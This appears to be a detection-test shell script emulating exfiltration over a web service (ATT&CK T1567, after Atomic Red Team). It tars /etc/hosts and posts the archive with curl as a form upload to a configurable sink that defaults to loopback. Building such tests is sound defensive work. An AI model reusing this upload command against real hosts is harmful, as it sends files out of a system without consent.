#!/bin/sh
# case: T1567-form-upload
# technique: File posted as a form
# source: redcanaryco/atomic-red-team T1567.002/.003 Exfiltration over web service
# needs: curl
# expect: net file
# where: container
# image: debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
W=${TMPDIR:-/tmp}/ho.$$; mkdir -p "$W" || exit 77
trap 'cd / && rm -rf "$W"' EXIT; trap 'exit 1' INT TERM
need curl
tar czf "$W/x.tgz" -C /etc hosts 2>/dev/null; curl -s -m 3 -F "file=@$W/x.tgz" "http://${HO_SINK:-127.0.0.1:8099}/up" >/dev/null 2>&1; true
exit 0
